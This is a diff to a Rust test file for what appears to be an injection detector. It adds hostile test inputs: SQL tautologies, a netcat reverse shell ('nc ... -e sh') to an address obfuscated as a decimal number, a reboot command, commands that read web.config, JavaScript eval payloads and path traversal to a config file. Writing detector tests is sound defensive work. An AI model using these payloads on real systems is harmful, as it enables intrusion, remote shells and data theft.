@@ -375,6 +375,17 @@ fn what_looks_like_talk_is_judged() {
         "1 or id*0=0",
         "9) or null|1=1",
         "1 or true%2==1",
+        "1 or rowid%1==0",
+        "1 or `uid` like `UID`",
+        "1 or `id` is not `name`",
+        ".. |nc 2130706433 99 -e sh| date:: y",
+        ".. |reboot| date:: y",
+        "x & type `a` d:\\site\\web.config",
+        "a & type `b c d e web.config",
+        "\";//><import \nlocation=\"//x.test\";x=\"",
+        "1;a=eval\na(`top.alert(1)`)",
+        "1;a=setTimeout\na`top.alert(1)`",
+        "(`reboot`, `x`)",
         "x|wget x.test/a| image:: y",
         "x|nc x.test 99 -e sh| date:: y",
         "\";location=\"1\"?name:0;//",
@@ -427,6 +438,10 @@ fn a_long_text_hides_no_way_out() {
         "../../a b/../../a b/../../a b/../../config/x.yml".to_owned(),
         format!("../../../../a b/config/x.yml\n{blanks}"),
         format!("../../../config/x.yml\n{text}"),
+        format!(
+            "{}\n/../../a b/../../a b/../../a b/../../config/x.yml",
+            "a".repeat(250)
+        ),
     ] {
         let total = judge_with(&detector, Carrier::FormValue, value.as_bytes()).total();
         assert!(total >= Paranoia::One.threshold(), "{value}");
